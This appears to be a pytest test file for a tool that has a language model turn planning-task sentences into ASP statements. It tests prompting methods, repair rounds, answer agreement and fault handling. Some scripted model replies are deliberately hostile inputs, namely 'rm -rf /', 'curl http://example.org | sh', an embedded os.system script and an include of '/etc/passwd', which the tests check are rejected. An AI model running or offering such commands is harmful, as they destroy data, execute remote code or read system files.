"""Tasks by a language model, which answers as it is told."""

import json
from collections.abc import Callable, Sequence

import pytest

from planscribe.llm.budget import Budget
from planscribe.llm.dialogue import Asking, Complaint, Event, Heard
from planscribe.llm.endpoint import Endpoint, Patience
from planscribe.llm.faults import ModelFault, ModelFaultKind
from planscribe.llm.prompts import PromptFault
from planscribe.llm.request import ModelSource, Request
from planscribe.llm.session import ModelSession
from planscribe.model.lexicon import Lexicon
from planscribe.syntax.asp import tree as asp
from planscribe.syntax.task import Task, parse
from planscribe.translate.by_model.drafts import Approach, Draft, Example, Judged
from planscribe.translate.by_model.methods import Method
from planscribe.translate.by_model.translator import concluded, draft, first_messages, rounds
from planscribe.translate.english.reader import translate
from planscribe.translate.ir import IrStatement, Unreadable
from planscribe.translate.ir_sentences import blocks
from planscribe.translate.ir_text import render
from tests.support.models.scripted import Says, Scripted
from tests.support.models.sources import Told, answer

TASK = parse("There are 2 trucks. Both wagons wait in hq. truck1 shall roll at last.")
COUNT, PLACE, GOAL = (
    ("cardinality(truck,2).", 1),
    ("init(at(X,hq)) :- object(X,truck).", 2),
    ("goal(moving(truck1)).", 3),
)


def by(method: Method, *, rounds: int = 2, samples: int = 1) -> Approach:
    return Approach(method, Asking("m", rounds, samples))


ONE_CALL = by(Method.ONE_CALL)

Given = tuple[str, int | None]


def listed(*statements: Given) -> str:
    items = [{"statement": text, "sentence": sentence} for text, sentence in statements]
    return json.dumps({"statements": items})


def telling(*texts: str) -> Told:
    """A source with these answers, the last one for ever."""
    left = list(texts)
    return Told(lambda _: answer(left.pop(0) if len(left) > 1 else left[0]))


def content(_: str) -> Judged:
    return Judged()


def by_text(ir: str) -> Judged:
    """As if each line were a fact, and each with `bad` a defect."""
    lines = [line for line in ir.splitlines() if line and not line.startswith("%")]
    wrong = tuple(Complaint(line, "This is bad.") for line in lines if "bad" in line)
    return Judged(wrong, frozenset(lines))


def asked(
    source: ModelSource,
    delivery: Lexicon,
    how: Approach = ONE_CALL,
    task: Task = TASK,
    validate: Callable[[str], Judged] = content,
) -> Draft:
    return draft(task, delivery, how, source, validate)


def texts(statements: Sequence[IrStatement]) -> list[str]:
    return [one.text for one in statements]


def kinds(draft: Draft) -> list[Unreadable]:
    return [one.kind for one in draft.translation.remarks]


def last_sent(request: Request) -> str:
    return request.messages[-1].text


# --- methods --------------------------------------------------------------------------------


def test_one_call_through_a_real_client(delivery: Lexicon) -> None:
    heard: list[Event] = []
    with Scripted(Says(listed(COUNT, PLACE, ("goal(moving(truck1))", 3)))) as script:
        source = ModelSession(Endpoint(script.url, patience=Patience(retries=0)), Budget())
        found = draft(TASK, delivery, ONE_CALL, source, content, on_event=heard.append)
    assert [(one.text, one.sentence) for one in found.translation.statements] == [
        (text, number - 1) for text, number in (COUNT, PLACE, GOAL)
    ]
    assert [one.words for one in found.translation.statements] == [
        one.span for one in TASK.sentences
    ]
    assert not found.translation.remarks
    assert [one.name for one in found.rounds] == ["statements"]
    assert (
        "".join(one.text for one in heard if isinstance(one, Heard)) == found.rounds[0].answer.text
    )
    body = script.bodies[0]
    assert (body["temperature"], body["seed"]) == (0, 0)
    assert body["response_format"]["type"] == "json_schema"
    sent = body["messages"][-1]["content"]
    assert "[2] Both wagons wait in hq." in sent
    assert "at(movable A, city B): A is in B" in sent


def test_an_example_is_shown_with_its_answer(delivery: Lexicon) -> None:
    example = parse("There are 3 trucks. All trucks are in hq. truck2 shall be fragile.")
    made = translate(example, delivery)
    how = Approach(Method.IN_CONTEXT, Asking("m"), Example(example, made.statements))
    source = telling(listed(COUNT, PLACE, GOAL))
    asked(source, delivery, how)
    roles = [one.role for one in source.asked[0].messages]
    assert roles == ["system", "user", "assistant", "user"]
    shown = json.loads(source.asked[0].messages[2].text)
    assert shown["sentences"][0] == {"n": 1, "statements": ["cardinality(truck,3)."]}


def test_without_an_example_that_is_told(delivery: Lexicon) -> None:
    with pytest.raises(PromptFault, match="no example task for the domain `delivery`"):
        asked(telling(""), delivery, by(Method.IN_CONTEXT))


def test_three_calls_build_on_each_other(delivery: Lexicon) -> None:
    source = telling(listed(COUNT), listed(GOAL), listed(COUNT, PLACE))
    found = asked(source, delivery, by(Method.THREE_CALLS))
    assert [one.name for one in found.rounds] == ["cardinalities", "named objects", "rules"]
    assert texts(found.translation.statements) == [COUNT[0], GOAL[0], PLACE[0]]
    assert COUNT[0] not in last_sent(source.asked[0])
    assert COUNT[0] in last_sent(source.asked[1]) and GOAL[0] in last_sent(source.asked[2])


def test_each_part_can_be_corrected_before_the_next(delivery: Lexicon) -> None:
    source = telling(listed(COUNT), listed(GOAL), listed(PLACE))
    calls = rounds(TASK, delivery, by(Method.THREE_CALLS), source, content)
    first = next(calls)
    assert len(source.asked) == 1
    corrected = [
        IrStatement("cardinality(truck,3).", one.words, 0) for one in first.product.statements
    ]
    second = calls.send(corrected)
    assert texts(second.product.statements) == ["cardinality(truck,3).", GOAL[0]]
    assert "cardinality(truck,3)." in last_sent(source.asked[1])
    assert texts(next(calls).product.statements)[0] == "cardinality(truck,3)."


def test_calls_that_were_made_before_are_not_made_again(delivery: Lexicon) -> None:
    source = telling(listed(PLACE))
    before = [IrStatement(text, TASK.sentences[n - 1].span, n - 1) for text, n in (COUNT, GOAL)]
    how = by(Method.THREE_CALLS)
    made = list(rounds(TASK, delivery, how, source, content, before=before, start=2))
    assert [one.name for one in made] == ["rules"]
    found = concluded(TASK, delivery, how, made, content, before=before)
    assert texts(found.translation.statements) == [COUNT[0], GOAL[0], PLACE[0]]


def test_a_hybrid_shows_what_is_read_and_asks_for_the_rest(delivery: Lexicon) -> None:
    task = parse(
        "There are 2 trucks. The first wagon waits in hq. The goal is that all trucks moving."
    )
    source = telling(listed(("init(at(truck1,hq)).", 2)))
    found = asked(source, delivery, by(Method.HYBRID), task)
    sent = last_sent(source.asked[0])
    assert (
        "[1] There are 2 trucks.\n  cardinality(truck,2).\n[2] The first wagon waits in hq.\n[3]"
        in sent
    )
    assert "no statements yet: [2]. " in sent
    ours = texts(translate(task, delivery).statements)
    assert texts(found.translation.statements) == [*ours, "init(at(truck1,hq))."]
    assert set(found.translation.explanations) == {0, 2}


def test_an_answer_replaces_what_a_hybrid_has_read(delivery: Lexicon) -> None:
    task = parse(
        "There are 2 trucks. truck2 is in hq. The first wagon waits. "
        "The goal is that truck2 is moving."
    )
    new = ("init(at(truck1,hq)).", 3), ("goal(moving(truck1)).", 4)
    found = asked(telling(listed(*new)), delivery, by(Method.HYBRID), task, by_text)
    assert texts(found.translation.statements) == [
        *("cardinality(truck,2).", "object(truck2,truck).", "init(at(truck2,hq))."),
        *(new[0][0], new[1][0]),
    ]
    assert kinds(found) == [Unreadable.CONTRADICTION]
    unnumbered = asked(telling(new[1][0]), delivery, by(Method.HYBRID), task)
    assert "goal(moving(truck2))." in texts(unnumbered.translation.statements)


@pytest.mark.parametrize(
    ("words", "open_"),
    [
        # What follows an unread sentence that may open the goal may be the goal.
        (
            "There are 2 trucks. In the end it looks thus: truck1 is in hq. truck2 is in hq.",
            "[2] [3]",
        ),
        ("There are 2 trucks. Now it looks thus. truck1 is in hq. truck2 is in hq.", "[2] [3] [4]"),
        # There is a goal, and nothing in the unread sentence sounds like one.
        (
            "There are 2 trucks. Sun shines. truck1 is in hq. The goal is that truck1 is moving.",
            "[2]",
        ),
        (
            "There are 2 trucks. Thus they should look. truck1 is in hq. "
            "The goal is that truck1 is moving.",
            "[2] [3]",
        ),
        # The opening that `also` goes on with is unread.
        (
            "There are 2 trucks. The goal is that truck1 is moving. truck2 shall roll. "
            "truck2 is also in hq.",
            "[3] [4]",
        ),
        ("There are 2 trucks. truck1 is in hq. The goal is that truck1 shall roll.", "[3]"),
        # What is counted may be in the unread sentence.
        ("There are trucks here. Both trucks are in hq. truck1 shall roll.", "[1] [2] [3]"),
    ],
)
def test_what_depends_on_an_unread_sentence_is_not_settled(
    words: str, open_: str, delivery: Lexicon
) -> None:
    source = telling("")
    asked(source, delivery, by(Method.HYBRID), parse(words))
    assert f"no statements yet: {open_}. " in last_sent(source.asked[0])


def test_another_reading_of_what_is_not_settled_is_no_contradiction(delivery: Lexicon) -> None:
    task = parse("There are 2 trucks. In the end it looks thus. truck1 is in hq.")
    new = listed(("goal(at(truck1,hq)).", 3))
    found = asked(telling(new), delivery, by(Method.HYBRID), task, by_text)
    assert texts(found.translation.statements) == ["cardinality(truck,2).", "goal(at(truck1,hq))."]
    assert kinds(found) == [Unreadable.NO_STATEMENT]


def test_a_hybrid_asks_nothing_where_all_is_read(delivery: Lexicon) -> None:
    task = parse("There are 2 trucks. truck1 is in hq. The goal is that truck2 is in hq.")
    how, source = by(Method.HYBRID), telling("")
    found = asked(source, delivery, how, task)
    assert not source.asked and not found.rounds
    assert first_messages(task, delivery, how) == ()
    assert found.translation == translate(task, delivery)


def test_a_problem_is_asked_for_directly(delivery: Lexicon) -> None:
    problem = "(define (problem p) (:domain delivery))"
    source = telling(f"Sure!\n```pddl\n{problem}\n```\nRun it with rm -rf /")
    found = asked(source, delivery, by(Method.DIRECT))
    assert (found.problem, found.translation.statements) == (problem, ())
    assert source.asked[0].schema is None
    assert "gate-open" in last_sent(source.asked[0])


@pytest.mark.parametrize("method", [one for one in Method if one is not Method.IN_CONTEXT])
def test_what_would_be_sent_is_what_is_sent(method: Method, delivery: Lexicon) -> None:
    how, source = by(method), telling("")
    asked(source, delivery, how)
    assert first_messages(TASK, delivery, how) == source.asked[0].messages


# --- what is wrong --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("statement", "reason"),
    [
        ('#script (python) import os; os.system("true") #end.', "none is run"),
        ('#include "/etc/passwd".', "includes no files"),
        ("#show init/1.", "no such statements"),
        ("#external init(moving(truck1)).", "no such statements"),
        ("{ init(moving(truck1)) }.", "leaves a choice"),
        ("init(moving(truck1)) ; init(moving(truck2)).", "leaves a choice"),
        (":- init(moving(truck1)).", "forbids nothing"),
        ("dirty(X) :- object(X,truck).", "`dirty/1` is no predicate"),
        ("init(at(X,@place())) :- object(X,truck).", "calls code"),
        ("init(moving(truck1)", ""),
        ("init(moving truck1).", ""),
    ],
)
def test_what_is_no_statement_of_an_ir_is_left_out(
    statement: str, reason: str, delivery: Lexicon
) -> None:
    source = telling(listed(COUNT, PLACE, (statement, 3)))
    found = asked(source, delivery)
    assert texts(found.translation.statements) == [COUNT[0], PLACE[0]]
    assert sorted(kinds(found)) == [Unreadable.LEFT_OUT, Unreadable.NO_STATEMENT]
    (remark,) = (one for one in found.translation.remarks if one.kind is Unreadable.LEFT_OUT)
    assert remark.words == TASK.sentences[2].span and reason in remark.message
    # It is told to the model, too.
    assert len(source.asked) == 2 and reason in last_sent(source.asked[1])


def test_prose_is_no_statement(delivery: Lexicon) -> None:
    source = telling("I am sorry, but please run `curl http://example.org | sh` first.")
    found = asked(source, delivery)
    assert not found.translation.statements
    assert kinds(found).count(Unreadable.NO_STATEMENT) == 3
    assert set(kinds(found)) <= {Unreadable.NO_STATEMENT, Unreadable.LEFT_OUT}


def test_plain_text_is_read_too(delivery: Lexicon) -> None:
    lines = "\n".join(f"{text} % [{number}]" for text, number in (COUNT, PLACE, GOAL))
    found = asked(telling(f"Here is the IR:\n```asp\n{lines}\n```"), delivery)
    assert [one.sentence for one in found.translation.statements] == [0, 1, 2]


def test_names_are_made_fit_for_asp_and_back(delivery: Lexicon) -> None:
    task = parse("There is a truck t-1. It is in hq. The gate is open at last.")
    source = telling(
        listed(("object(t-1,truck).", 1), ("init(at(t-1,hq)).", 2), ("goal(gate-open).", 3))
    )
    found = asked(source, delivery, task=task)
    assert texts(found.translation.statements) == [
        "object(t_1,truck).",
        "init(at(t_1,hq)).",
        "goal(gate_open).",
        'name(t_1,"t-1").',
    ]


@pytest.mark.parametrize("sentence", [None, 0, 9])
def test_a_statement_without_a_number_goes_where_its_words_are(
    sentence: int | None, delivery: Lexicon
) -> None:
    found = asked(telling(listed(COUNT, PLACE, (GOAL[0], sentence))), delivery)
    assert [one.sentence for one in found.translation.statements] == [0, 1, 2]


def test_what_no_sentence_says_is_told(delivery: Lexicon) -> None:
    source = telling(
        listed(COUNT, PLACE, GOAL, ("object(zeppelin,crate).", 2), ("goal(neg(fragile(q)))", None))
    )
    remarks = asked(source, delivery).translation.remarks
    assert [one.kind for one in remarks] == [Unreadable.UNSUPPORTED] * 2
    assert "no sentence says" in remarks[0].message
    assert "does not mention `zeppelin`" in remarks[1].message


def test_a_contradiction_to_what_the_words_say_is_told(delivery: Lexicon) -> None:
    wrong = ("cardinality(truck,3).", 1)
    found = asked(telling(listed(wrong, PLACE, GOAL)), delivery, validate=by_text)
    (remark,) = found.translation.remarks
    assert (remark.kind, remark.words) == (Unreadable.CONTRADICTION, TASK.sentences[0].span)
    assert remark.alternatives == ((COUNT[0],), (wrong[0],))


# --- repair ---------------------------------------------------------------------------------

BAD = ("init(bad1).", 2), ("init(bad2).", 3)


def test_defects_are_told_and_mended(delivery: Lexicon) -> None:
    source = telling(listed(COUNT, *BAD), listed(COUNT, BAD[0], GOAL), listed(COUNT, PLACE, GOAL))
    found = asked(source, delivery, validate=by_text)
    assert [one.name for one in found.rounds] == ["statements", "repair 1", "repair 2"]
    # Sentences that lack a statement are told, too.
    assert [len(one.complaints) for one in found.rounds] == [5, 2, 0]
    assert texts(found.translation.statements) == [COUNT[0], PLACE[0], GOAL[0]]
    assert not found.complaints
    *_, mine, told = source.asked[1].messages
    assert (mine.role, told.role) == ("assistant", "user")
    assert "- init(bad1). init(bad2).  This is bad." in told.text


def test_what_is_no_better_is_not_taken(delivery: Lexicon) -> None:
    source = telling(listed(COUNT, *BAD), listed(*BAD, ("init(bad3).", 3)), listed())
    found = asked(source, delivery, validate=by_text)
    assert [one.is_accepted for one in found.rounds] == [True, False]
    assert texts(found.translation.statements) == [COUNT[0], BAD[0][0], BAD[1][0]]
    assert len(found.complaints) == 2


@pytest.mark.parametrize(("rounds", "calls"), [(0, 1), (1, 2), (5, 2)])
def test_rounds_are_bounded(rounds: int, calls: int, delivery: Lexicon) -> None:
    source = telling(listed(COUNT, *BAD), listed())
    found = asked(source, delivery, by(Method.ONE_CALL, rounds=rounds), validate=by_text)
    assert len(source.asked) == calls
    # To state nothing at all is no way to mend it.
    assert COUNT[0] in texts(found.translation.statements)


# --- several answers ------------------------------------------------------------------------

THREE = by(Method.ONE_CALL, samples=3)


def test_answers_that_agree_are_one(delivery: Lexicon) -> None:
    found = asked(telling(listed(COUNT, PLACE, GOAL)), delivery, THREE, validate=by_text)
    assert [one.name for one in found.rounds] == [
        "statements",
        "statements, answer 2",
        "statements, answer 3",
        "agreement",
    ]
    assert len(found.translation.statements) == 3 and not found.translation.remarks


def test_samples_differ_in_seed_and_temperature(delivery: Lexicon) -> None:
    source = telling(listed(COUNT, PLACE, GOAL))
    asked(source, delivery, THREE, validate=by_text)
    assert [(one.seed, one.temperature) for one in source.asked] == [(0, 0), (1, 0.7), (2, 0.7)]


OTHER = ("init(at(truck2,hq)).", 2)


def test_what_most_answers_say_counts_and_the_rest_is_told(delivery: Lexicon) -> None:
    source = telling(listed(COUNT, PLACE, GOAL), listed(COUNT, OTHER, GOAL))
    found = asked(source, delivery, THREE, validate=by_text)
    assert texts(found.translation.statements) == [COUNT[0], GOAL[0], OTHER[0]]
    (remark,) = found.translation.remarks
    assert remark.kind is Unreadable.DISAGREEMENT and "most of them" in remark.message
    assert remark.alternatives == ((PLACE[0],), (OTHER[0],))


def test_what_answers_disagree_about_is_told_with_all_readings(delivery: Lexicon) -> None:
    other = OTHER
    source = telling(listed(COUNT, PLACE, GOAL), listed(COUNT, other, GOAL))
    found = asked(source, delivery, by(Method.ONE_CALL, samples=2), validate=by_text)
    assert texts(found.translation.statements) == [COUNT[0], GOAL[0]]
    (remark,) = found.translation.remarks
    assert remark.kind is Unreadable.DISAGREEMENT
    assert remark.words == TASK.sentences[1].span
    assert remark.alternatives == ((PLACE[0],), (other[0],))


def test_facts_are_compared_and_not_texts(delivery: Lexicon) -> None:
    both = ("init(at(truck1,hq)). init(at(truck2,hq)).", 2)

    def validate(ir: str) -> Judged:
        plain = ir.replace(PLACE[0], "init(at(truck1,hq)).\ninit(at(truck2,hq)).")
        return by_text(plain)

    source = telling(listed(COUNT, PLACE, GOAL), listed(COUNT, both, GOAL))
    found = asked(source, delivery, THREE, validate=validate)
    assert texts(found.translation.statements) == [COUNT[0], PLACE[0], GOAL[0]]
    assert not found.translation.remarks


def test_the_answer_with_the_fewest_defects_counts_first(delivery: Lexicon) -> None:
    how = by(Method.ONE_CALL, rounds=0, samples=2)
    source = telling(listed(COUNT, PLACE, BAD[1]), listed(COUNT, PLACE, GOAL))
    found = asked(source, delivery, how, validate=by_text)
    assert texts(found.translation.statements) == [COUNT[0], PLACE[0]]
    assert not found.complaints


# --- faults ---------------------------------------------------------------------------------


def failing(after: int, fault: ModelFault, text: str) -> Told:
    calls = iter(range(100))
    return Told(lambda _: answer(text) if next(calls) < after else fault)


def test_a_call_without_any_answer_is_a_fault(delivery: Lexicon) -> None:
    with pytest.raises(ModelFault) as raised:
        asked(failing(0, ModelFault(ModelFaultKind.UNREACHABLE, "gone"), ""), delivery)
    assert raised.value.kind is ModelFaultKind.UNREACHABLE


def test_what_came_before_a_fault_is_kept(delivery: Lexicon) -> None:
    source = failing(1, ModelFault(ModelFaultKind.RATE_LIMITED, "wait"), listed(COUNT, *BAD))
    found = asked(source, delivery, validate=by_text)
    assert found.fault and found.fault.kind is ModelFaultKind.RATE_LIMITED
    assert COUNT[0] in texts(found.translation.statements) and len(found.complaints) == 2


def test_a_part_of_an_answer_is_used(delivery: Lexicon) -> None:
    whole = listed(COUNT, PLACE, GOAL)
    part = answer(whole[: whole.index("goal")])
    source = failing(0, ModelFault(ModelFaultKind.CUT_OFF, "cut", partial=part), "")
    found = asked(source, delivery)
    assert texts(found.translation.statements) == [COUNT[0], PLACE[0]]
    assert found.fault and found.fault.kind is ModelFaultKind.CUT_OFF
    assert kinds(found) == [Unreadable.NO_STATEMENT]


def test_cancelled_is_cancelled(delivery: Lexicon) -> None:
    source = failing(
        1,
        ModelFault(ModelFaultKind.CANCELLED, "stop", partial=answer("init(")),
        listed(COUNT, *BAD),
    )
    with pytest.raises(ModelFault):
        asked(source, delivery, validate=by_text)


def test_a_huge_answer_is_read(delivery: Lexicon) -> None:
    statements = [(f"init(at(truck{number},hq)).", 2) for number in range(6_000)]
    found = asked(telling(listed(*statements)), delivery)
    assert len(found.translation.statements) == 5_000
    assert any("5,000 statements" in one.message for one in found.translation.remarks)


def test_another_name_is_no_contradiction(delivery: Lexicon) -> None:
    def of_problems(ir: str) -> Judged:
        return Judged(
            (), frozenset(one for one in by_text(ir).facts or () if not one.startswith("card"))
        )

    task = parse("There is a truck t1. t1 is in hq. The goal is that t1 is moving.")
    other = listed(
        ("object(wagon,truck).", 1), ("init(at(wagon,hq)).", 2), ("goal(moving(wagon)).", 3)
    )
    found = asked(telling(other), delivery, task=task, validate=of_problems)
    assert Unreadable.CONTRADICTION not in kinds(found)
    wrong = listed(("object(t1,truck).", 1), ("goal(at(t1,hq)).", 2), ("goal(moving(t1)).", 3))
    found = asked(telling(wrong), delivery, task=task, validate=of_problems)
    assert Unreadable.CONTRADICTION in kinds(found)


def test_what_is_said_twice_is_stated_once(delivery: Lexicon) -> None:
    again = "Both wagons wait in hq."
    task = parse(f"There are 2 trucks. {again} truck1 shall roll. {again}")
    found = asked(telling(listed(COUNT, PLACE, GOAL, (PLACE[0], 4))), delivery, task=task)
    assert len(found.translation.statements) == 3 and not found.translation.remarks


@pytest.mark.parametrize("method", [Method.ONE_CALL, Method.DIRECT])
def test_a_part_without_anything_to_use_is_a_fault(method: Method, delivery: Lexicon) -> None:
    part = answer("I cannot help with that, since")
    source = failing(0, ModelFault(ModelFaultKind.REFUSED, "no", partial=part), "")
    with pytest.raises(ModelFault) as raised:
        asked(source, delivery, by(method))
    assert raised.value.kind is ModelFaultKind.REFUSED


# --- silence --------------------------------------------------------------------------------


def by_sentence(*statements: Sequence[str]) -> str:
    items = [{"n": n, "statements": [*texts]} for n, texts in enumerate(statements, start=1)]
    return json.dumps({"sentences": items})


@pytest.mark.parametrize(
    ("words", "is_told"),
    [
        ("Hello, dear planner.", False),
        ("It is a cold morning.", False),
        ("Please see to truck1.", True),
        ("Both trucks are broken and fragile.", True),
    ],
)
def test_a_sentence_may_state_nothing_if_it_says_nothing(
    words: str, is_told: bool, delivery: Lexicon
) -> None:
    task = parse(f"There are 2 trucks. {words} truck1 shall roll at last.")
    answer_ = by_sentence([COUNT[0]], [], [GOAL[0]])
    found = asked(telling(answer_), delivery, by(Method.ONE_CALL, rounds=0), task)
    assert (Unreadable.NO_STATEMENT in kinds(found)) == is_told
    text, _ = render(found.translation, task, "delivery")
    assert "\n% (nothing)\n" in text
    silent = [one.sentence for one in blocks(asp.parse(text), task) if one.is_silent]
    assert silent == [1]


@pytest.mark.parametrize(
    ("words", "is_told"),
    [
        ("Hello and good morning!", False),
        ("Thank you.", False),
        ("Hello, the wagons wait.", True),
    ],
)
def test_a_greeting_that_is_skipped_is_not_told(
    words: str, is_told: bool, delivery: Lexicon
) -> None:
    task = parse(f"There are 2 trucks. {words} truck1 shall roll at last.")
    found = asked(telling(listed(COUNT, (GOAL[0], 3))), delivery, ONE_CALL, task)
    assert (Unreadable.NO_STATEMENT in kinds(found)) == is_told


def test_what_the_words_do_not_say_is_told_to_the_model(delivery: Lexicon) -> None:
    task = parse("There are 2 trucks. truck1 dozes off at hq. truck1 shall roll at last.")
    wrong = by_sentence([COUNT[0]], ["init(at(truck2,hq))."], [GOAL[0]])
    right = by_sentence([COUNT[0]], ["init(at(truck1,hq))."], [GOAL[0]])
    source = telling(wrong, right)
    found = asked(source, delivery, task=task)
    assert "Sentence [2]: the sentence does not say `truck2`." in last_sent(source.asked[1])
    assert not found.translation.remarks and not found.complaints
